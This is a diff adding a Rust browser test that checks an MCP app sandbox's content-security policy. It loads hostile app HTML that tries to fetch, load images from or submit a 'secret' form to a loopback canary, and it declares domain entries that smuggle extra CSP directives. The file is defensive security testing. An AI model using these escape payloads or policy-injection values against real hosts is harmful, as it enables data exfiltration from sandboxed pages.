@@ -3,18 +3,24 @@
 //! proxy on `localhost` (two origins); headless Chromium (Debian's, `/usr/bin/chromium`, or
 //! `$CHROMIUM`) driven by `playwright-core` loads the app under its CSP, lets it initialise,
 //! books a table through the host against our server, and saves a screenshot as
-//! `target/tmp/bistro-app.png`. `cargo xtask setup test` installs Chromium and npm; `cargo
-//! xtask test` hands the test a Node 20 or newer in `MCP_NODE`.
+//! `target/tmp/bistro-app.png`. A second test loads hostile apps the same way and checks that
+//! none of them reaches a loopback canary (security review X9). `cargo xtask setup test`
+//! installs Chromium and npm; `cargo xtask test` hands the test a Node 20 or newer in
+//! `MCP_NODE`.
 
 use std::path::{Path, PathBuf};
 use std::process::Stdio;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 use axum::Router;
 use axum::response::Html;
 use axum::routing::get;
+use mcp::{AppDef, McpServer, ToolDef};
 use mcp_examples::bistro_app;
-use serde_json::{Value, json};
+use serde_json::{Map, Value, json};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::process::Command;
 
 const HOST: &str = include_str!("../apps/host/host.html");
@@ -44,6 +50,9 @@ fn node() -> PathBuf {
 
 /// `npm ci` in `examples/apps/host` unless `node_modules` was made from this very lockfile.
 async fn ensure_playwright() {
+    // The tests run at once; one `npm ci` at a time.
+    static ONE_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
+    let _one = ONE_AT_A_TIME.lock().await;
     let dir = host_dir();
     let lock = std::fs::read(dir.join("package-lock.json")).expect("the lockfile is committed");
     let marker = dir.join("node_modules/.mcp-rs-browser-lock.json");
@@ -65,9 +74,9 @@ async fn ensure_playwright() {
     std::fs::write(&marker, lock).expect("the marker is written");
 }
 
-/// The example server at `/mcp`, the host page and the sandbox, on one loopback port.
-async fn serve() -> u16 {
-    let endpoint = mcp::http::endpoint(bistro_app::server()).expect("the example server builds");
+/// `server` at `/mcp`, the host page and the sandbox, on one loopback port.
+async fn serve(server: McpServer) -> u16 {
+    let endpoint = mcp::http::endpoint(server).expect("the server builds");
     let router = Router::new()
         .route_service("/mcp", endpoint)
         .route("/host.html", get(|| async { Html(HOST) }))
@@ -84,7 +93,7 @@ async fn serve() -> u16 {
 async fn the_booking_app_books_a_table_through_a_host_in_chromium() {
     let chromium = chromium();
     ensure_playwright().await;
-    let port = serve().await;
+    let port = serve(bistro_app::server()).await;
     let screenshot = Path::new(env!("CARGO_TARGET_TMPDIR")).join("bistro-app.png");
     let _ = std::fs::remove_file(&screenshot);
 
@@ -170,3 +179,255 @@ async fn the_booking_app_books_a_table_through_a_host_in_chromium() {
     );
     eprintln!("screenshot: {}", screenshot.display());
 }
+
+/// A loopback listener that counts every connection and keeps the first line of every request
+/// (answered `204 No Content`).
+struct Canary {
+    port: u16,
+    connections: Arc<AtomicUsize>,
+    requests: Arc<Mutex<Vec<String>>>,
+}
+
+impl Canary {
+    async fn start() -> Canary {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+            .await
+            .expect("a loopback port");
+        let port = listener.local_addr().expect("the bound address").port();
+        let connections = Arc::new(AtomicUsize::new(0));
+        let requests = Arc::new(Mutex::new(Vec::new()));
+        let (counted, kept) = (connections.clone(), requests.clone());
+        tokio::spawn(async move {
+            while let Ok((mut stream, _)) = listener.accept().await {
+                counted.fetch_add(1, Ordering::SeqCst); eprintln!("ACCEPT {}", std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis());
+                let kept = kept.clone();
+                tokio::spawn(async move {
+                    let mut buffer = vec![0; 4096];
+                    let read =
+                        tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buffer))
+                            .await
+                            .ok()
+                            .and_then(Result::ok)
+                            .unwrap_or(0);
+                    let text = String::from_utf8_lossy(&buffer[..read]);
+                    let line = text
+                        .lines()
+                        .next()
+                        .unwrap_or("(no request line)")
+                        .to_owned();
+                    kept.lock().expect("the canary's list").push(line);
+                    let _ = stream
+                        .write_all(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n")
+                        .await;
+                });
+            }
+        });
+        Canary {
+            port,
+            connections,
+            requests,
+        }
+    }
+
+    fn connections(&self) -> usize {
+        self.connections.load(Ordering::SeqCst)
+    }
+
+    fn requests(&self) -> Vec<String> {
+        self.requests.lock().expect("the canary's list").clone()
+    }
+}
+
+/// The hostile apps' URI; every one is linked to the tool `probe`.
+const PROBE_APP: &str = "ui://probe/app";
+
+/// A server whose one tool is linked to `app`.
+fn probe_server(app: AppDef) -> McpServer {
+    let probe = ToolDef::new("probe")
+        .ui(PROBE_APP)
+        .handler(|_ctx, _args: Map<String, Value>| async { "probed".to_owned() });
+    McpServer::new("Probe").app(app).tool(probe)
+}
+
+/// The app tells the host it runs (`ui/notifications/initialized`, relayed by the sandbox).
+const RAN: &str = "parent.postMessage({jsonrpc: '2.0', method: 'ui/notifications/initialized', params: {}}, '*');";
+
+/// A script that fetches the canary, then says it ran, and an image from the canary.
+fn reach(case: &str, canary: u16) -> String {
+    format!(
+        "<script>fetch('http://127.0.0.1:{canary}/{case}/fetch').catch(function () {{}});{RAN}</script>\
+         <img src=\"http://127.0.0.1:{canary}/{case}/img\" alt=\"\">"
+    )
+}
+
+/// A form that posts `secret` to the canary, and the script that submits it once the app said
+/// it ran (after `first`, a script expression yielding a promise, settled).
+fn submit(case: &str, canary: u16, first: &str) -> String {
+    format!(
+        "<form id=\"leak\" method=\"get\" action=\"http://127.0.0.1:{canary}/{case}/submit\">\
+         <input name=\"secret\" value=\"42\"></form>\
+         <script>function go() {{ {RAN} document.getElementById('leak').submit(); }}\
+         {first}.then(go, go);</script>"
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_markup_in_an_app_escapes_the_sandbox_policy_in_chromium() {
+    let chromium = chromium();
+    ensure_playwright().await;
+    let canary = Canary::start().await;
+    let declared = Canary::start().await;
+    let c = canary.port;
+    let app = |html: String| AppDef::new(PROBE_APP, "probe").title("Probe").html(html);
+    let cases = [
+        // Well-formed: the old sandbox found this head and held.
+        (
+            "control",
+            app(format!(
+                "<!doctype html><html><head><title>control</title></head><body>{}</body></html>",
+                reach("control", c)
+            )),
+        ),
+        // The old sandbox put its policy inside the comment.
+        (
+            "comment",
+            app(format!("<!--<head>-->{}<p>after</p>", reach("comment", c))),
+        ),
+        // The old sandbox put its policy after the script had run, and in the body.
+        (
+            "early-script",
+            app(format!(
+                "{}<html><head><title>early</title></head><body></body></html>",
+                reach("early-script", c)
+            )),
+        ),
+        // The old sandbox took `<header>` for the head.
+        (
+            "header",
+            app(format!(
+                "<body>{}<header>header</header></body>",
+                reach("header", c)
+            )),
+        ),
+        // The old policy had no form-action.
+        (
+            "form",
+            app(format!(
+                "<!doctype html><html><head><title>form</title></head><body>{}</body></html>",
+                submit("form", c, "Promise.resolve()")
+            )),
+        ),
+        // Declared origins: one it may fetch, and entries that would widen the policy (a bare
+        // `*`, a second directive that, coming first, would win over the sandbox's own).
+        (
+            "declared",
+            app(format!(
+                "<!doctype html><html><head><title>declared</title></head><body>\
+                 <img src=\"http://127.0.0.1:{c}/declared/img\" alt=\"\">{}</body></html>",
+                submit(
+                    "declared",
+                    c,
+                    &format!(
+                        "Promise.all([fetch('http://127.0.0.1:{}/declared/fetch'), \
+                         fetch('http://127.0.0.1:{c}/declared/fetch').catch(function () {{}})])",
+                        declared.port
+                    )
+                )
+            ))
+            .connect_domain(format!("http://127.0.0.1:{}", declared.port))
+            .connect_domain("*")
+            .connect_domain(format!(
+                "https://cdn.invalid; form-action http://127.0.0.1:{c}"
+            ))
+            .resource_domain(format!("'unsafe-eval' http://127.0.0.1:{c}")),
+        ),
+    ];
+    let mut urls = Vec::new();
+    for (name, app) in cases {
+        let port = serve(probe_server(app)).await;
+        urls.push(json!({"name": name, "url": format!("http://127.0.0.1:{port}/host.html")}));
+    }
+
+    let output = tokio::time::timeout(
+        Duration::from_secs(180),
+        Command::new(node())
+            .current_dir(host_dir())
+            .args(["--input-type=module", "--eval", PROBE_DRIVER])
+            .env("CHROMIUM", &chromium)
+            .env("PROBE_CASES", Value::Array(urls).to_string())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .kill_on_drop(true)
+            .output(),
+    )
+    .await
+    .expect("the browser run finishes within 180 s")
+    .expect("node runs");
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(
+        output.status.success(),
+        "the probe driver failed ({}):\n{stderr}\n{stdout}",
+        output.status
+    );
+    let runs: Value = serde_json::from_str(stdout.lines().last().unwrap_or_default())
+        .unwrap_or_else(|e| {
+            panic!("the probe driver printed no JSON line ({e}):\n{stdout}\n{stderr}")
+        });
+    let runs = runs.as_array().expect("one run per case");
+    assert_eq!(runs.len(), 6, "{runs:#?}");
+
+    // Every app ran its script (so each had its chance), yet the canary heard nothing: no
+    // fetch, no image, no form, not even a connection.
+    for run in runs {
+        assert_eq!(run["ran"], true, "{run:#}");
+        assert_eq!(run["errors"], json!([]), "{run:#}");
+    }
+    assert_eq!(
+        (canary.connections(), canary.requests()),
+        (0, Vec::<String>::new()),
+        "requests reached the canary:\n{runs:#?}"
+    );
+    // The origin the app declared stays reachable; the malformed entries were dropped.
+    assert_eq!(
+        declared.requests(),
+        ["GET /declared/fetch HTTP/1.1"],
+        "{runs:#?}"
+    );
+}
+
+/// Loads each case's host page (`$PROBE_CASES`: `[{name, url}]`) in headless Chromium, waits
+/// for its app to say it ran, gives it 2 s more, and prints one JSON line: per case whether it
+/// ran, the host's errors and the console (the policy's refusals show there).
+const PROBE_DRIVER: &str = r#"
+import { chromium } from "playwright-core";
+const deadline = setTimeout(() => { console.error("no result within 150 s"); process.exit(3); }, 150_000);
+const browser = await chromium.launch({
+  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
+  headless: true,
+  args: ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"],
+});
+const runs = [];
+try {
+  for (const { name, url } of JSON.parse(process.env.PROBE_CASES)) {
+    const t0 = Date.now(); const page = await browser.newPage();
+    const lines = [];
+    page.on("console", (m) => lines.push(`${m.type()}: ${m.text()}`));
+    page.on("pageerror", (e) => lines.push(`pageerror: ${e.message}`));
+    await page.goto(url);
+    const ran = await page.waitForFunction(
+      () => window.hostState && (window.hostState.initialized || window.hostState.errors.length > 0),
+      null,
+      { timeout: 20_000 },
+    ).then(() => true, () => false);
+    await page.waitForTimeout(2_000);
+    const state = await page.evaluate(() => window.hostState);
+    runs.push({ t0, t1: Date.now(), name, ran: ran && state.initialized, errors: state.errors, console: lines });
+    await page.close();
+  }
+} finally {
+  await browser.close();
+  clearTimeout(deadline);
+}
+console.log(JSON.stringify(runs));
+"#;
